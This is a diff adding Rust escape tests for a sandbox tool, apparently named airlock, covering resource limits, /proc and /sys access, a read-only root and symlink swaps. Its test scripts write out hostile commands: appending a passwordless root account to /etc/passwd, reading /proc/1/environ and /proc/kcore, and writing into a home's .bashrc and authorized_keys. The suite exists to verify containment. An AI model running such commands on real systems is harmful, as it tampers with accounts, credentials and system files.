+    assert!(limits_hit(&res).contains(&"memory".to_string()), "limits_hit: {:?}", res["limits_hit"]);
+    // Positive control: a small allocation fits.
+    let (r, res) = boxed_json(t.path(), &["--memory", "64M", "--timeout", "20s"], &py(8));
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert!(r.stdout.contains("allocated 8388608"));
+    assert!(limits_hit(&res).is_empty());
+    host.assert_untouched(&marker);
+}
+
+#[test]
+fn attack_infinite_loop_with_detached_child() {
+    let host = HostState::capture();
+    let t = TempDir::new("loop");
+    let marker = format!("1000.{}02s", std::process::id());
+    let started = Instant::now();
+    let (r, res) = boxed_json(t.path(), &["--timeout", "2s"], &format!("setsid sh -c 'sleep {marker}' & while :; do :; done"));
+    let took = started.elapsed();
+    assert_eq!(r.code, 124, "{}", r.stderr);
+    assert_eq!(res["exit_code"], 124);
+    assert!(limits_hit(&res).contains(&"timeout".to_string()), "limits_hit: {:?}", res["limits_hit"]);
+    let wall = res["wall_ms"].as_f64().unwrap();
+    assert!((1900.0..10_000.0).contains(&wall), "wall_ms {wall}");
+    assert!(took < Duration::from_secs(10), "took {took:?}");
+    host.assert_untouched(&marker);
+}
+
+#[test]
+fn attack_fill_scratch_disk() {
+    let host = HostState::capture();
+    let t = TempDir::new("disk");
+    let marker = unique("disk");
+    let host_tmp = Path::new("/tmp").join(&marker);
+    let script = format!(
+        "dd if=/dev/zero of=/tmp/{marker} bs=1M count=4 2>/dev/null; echo small=$?; rm -f /tmp/{marker}
+         dd if=/dev/zero of=/tmp/{marker} bs=1M count=64; echo big=$?; rm -f /tmp/{marker}
+         dd if=/dev/zero of=/tmp/{marker}.a bs=1M count=10; echo tmp=$?
+         dd if=/dev/zero of=$HOME/{marker}.b bs=1M count=10; echo home=$?
+         ls -d $HOME; df -k /tmp | tail -1"
+    );
+    let r = boxed(t.path(), &["--disk", "16M"], &script);
+    assert_eq!(line(&r.stdout, "small="), "small=0", "positive control: 4M fits:\n{}{}", r.stdout, r.stderr);
+    assert_ne!(line(&r.stdout, "big="), "big=0", "64M fit in a 16M scratch");
+    assert!(r.stderr.contains("No space left") || r.stderr.contains("File size limit"), "{}", r.stderr);
+    assert_eq!(line(&r.stdout, "tmp="), "tmp=0", "positive control: 10M fits:\n{}{}", r.stdout, r.stderr);
+    assert_ne!(line(&r.stdout, "home="), "home=0", "/tmp and home do not share one cap:\n{}", r.stdout);
+    assert!(r.stderr.contains(&format!("{marker}.b': No space left")), "{}", r.stderr);
+    for p in [host_tmp.clone(), host_tmp.with_extension("a"), t.join(&format!("{marker}.b"))] {
+        assert!(!p.exists(), "{} was written on the host", p.display());
+    }
+    host.assert_untouched(&marker);
+}
+
+#[test]
+fn attack_output_flood() {
+    let host = HostState::capture();
+    let t = TempDir::new("flood");
+    let marker = unique("flood");
+    let (r, res) = boxed_json(t.path(), &["--output-limit", "1M", "--timeout", "20s"], &format!("yes {marker}"));
+    assert!(r.stdout.len() <= 1 << 20, "stdout is {} bytes", r.stdout.len());
+    assert!(r.stdout.len() > 1 << 19, "positive control: output flowed until the cap ({} bytes)", r.stdout.len());
+    assert!(limits_hit(&res).contains(&"output".to_string()), "limits_hit: {:?}", res["limits_hit"]);
+    assert_ne!(r.code, 0);
+    assert!(!limits_hit(&res).contains(&"timeout".to_string()));
+    host.assert_untouched(&marker);
+}
+
+// ----- the host's kernel interfaces and the root -----
+
+#[test]
+fn attack_host_proc_and_sys() {
+    let host = HostState::capture();
+    let t = TempDir::new("proc");
+    let secret = unique("proc-secret");
+    let host_init = std::fs::read("/proc/1/cmdline").unwrap_or_default();
+    let host_init = String::from_utf8_lossy(&host_init).replace('\0', " ");
+    let script = "echo \"init=$(tr '\\0' ' ' < /proc/1/cmdline)\"; cat /proc/1/environ; echo environ=$?
+         grep -c . /proc/self/status | sed 's/^/status=/'
+         echo \"kcore=$(cat /proc/kcore 2>/dev/null | wc -c)\"
+         echo \"kallsyms=$(cat /proc/kallsyms 2>/dev/null | wc -c)\"
+         echo 1 > /proc/sysrq-trigger; echo sysrq=$?
+         echo 1 > /proc/sys/kernel/sysrq; echo sysctl=$?
+         ls /sys; echo sys=$?";
+    let r = boxed_env(t.path(), &[("AIRLOCK_TEST_SECRET", &secret)], &[], script);
+    assert!(line(&r.stdout, "status=") != "status=0", "positive control: /proc/self is readable:\n{}{}", r.stdout, r.stderr);
+    let init = line(&r.stdout, "init=");
+    assert!(init.contains("airlock run") && init.contains("/proc/1/cmdline"), "pid 1 is not the box's own init: {init}");
+    assert!(!host_init.is_empty() && !init.contains(host_init.trim()), "pid 1 is the host's init: {init}");
+    assert!(!r.stdout.contains(&secret) && !r.stderr.contains(&secret), "/proc/1/environ leaked airlock's environment");
+    assert_eq!(line(&r.stdout, "kcore="), "kcore=0", "/proc/kcore is readable");
+    assert_eq!(line(&r.stdout, "kallsyms="), "kallsyms=0", "/proc/kallsyms is readable");
+    assert_ne!(line(&r.stdout, "sysrq="), "sysrq=0");
+    assert_ne!(line(&r.stdout, "sysctl="), "sysctl=0");
+    assert_ne!(line(&r.stdout, "sys="), "sys=0", "/sys exists in the box");
+    host.assert_untouched(&secret);
+}
+
+#[test]
+fn attack_write_read_only_root() {
+    let host = HostState::capture();
+    let t = TempDir::new("root");
+    let marker = unique("root");
+    let passwd = std::fs::read("/etc/passwd").unwrap();
+    let script = format!(
+        "touch /tmp/ok; echo tmp=$?
+         touch /{marker}; echo root=$?
+         mkdir /etc/{marker}; echo etc=$?
+         echo 'evil::0:0::/:/bin/sh' >> /etc/passwd; echo passwd=$?
+         echo > /etc/passwd; echo truncate=$?
+         cp /bin/sh /usr/bin/{marker}; echo usr=$?"
+    );
+    let r = boxed(t.path(), &[], &script);
+    assert_eq!(line(&r.stdout, "tmp="), "tmp=0", "positive control: /tmp is writable:\n{}{}", r.stdout, r.stderr);
+    for k in ["root=", "etc=", "passwd=", "truncate=", "usr="] {
+        assert_ne!(line(&r.stdout, k), format!("{k}0"), "{k} write succeeded:\n{}{}", r.stdout, r.stderr);
+    }
+    assert_eq!(std::fs::read("/etc/passwd").unwrap(), passwd, "the host's /etc/passwd changed");
+    for p in [format!("/{marker}"), format!("/etc/{marker}"), format!("/usr/bin/{marker}")] {
+        assert!(!Path::new(&p).exists(), "{p} exists on the host");
+    }
+    host.assert_untouched(&marker);
+}
+
+#[test]
+fn attack_symlink_swap_out_of_workspace() {
+    let host = HostState::capture();
+    let t = TempDir::new("swap");
+    let home = t.join("home");
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".bashrc"), "# host rc\n").unwrap();
+    std::fs::write(home.join(".ssh/authorized_keys"), "ssh-ed25519 AAAA host\n").unwrap();
+    let ws = t.join("ws");
+    std::fs::create_dir_all(ws.join("sub")).unwrap();
+    let home_before = snapshot(&home);
+    let marker = unique("swap");
+
+    let script = format!(
+        "ln -s sub good; echo ok > good/f; echo good=$?
+         ln -s /etc evil; ln -s {home} evil2; echo links=$?
+         echo x > evil/{marker}; echo etc=$?
+         echo evil >> evil2/.bashrc; echo rc=$?
+         echo evil >> evil2/.ssh/authorized_keys; echo keys=$?
+         echo x > evil2/{marker}; echo new=$?
+         rm -rf evil2/.ssh; echo rm=$?
+         ln -sfn /usr/bin sub2 && touch sub2/{marker}; echo usr=$?",
+        home = s(&home)
+    );
+    let r = boxed(&ws, &[], &script);
+    assert_eq!(line(&r.stdout, "good="), "good=0", "positive control: {}{}", r.stdout, r.stderr);
+    assert_eq!(line(&r.stdout, "links="), "links=0", "positive control: the box may make symlinks");
+    assert_eq!(std::fs::read_to_string(ws.join("sub/f")).unwrap(), "ok\n");
+    for k in ["etc=", "rc=", "keys=", "new=", "usr="] {
+        assert_ne!(line(&r.stdout, k), format!("{k}0"), "{k} write through a symlink succeeded:\n{}{}", r.stdout, r.stderr);
+    }
+    assert_eq!(snapshot(&home), home_before, "the host home changed");
+    assert!(!Path::new("/etc").join(&marker).exists() && !Path::new("/usr/bin").join(&marker).exists());
+    host.assert_untouched(&marker);
+}
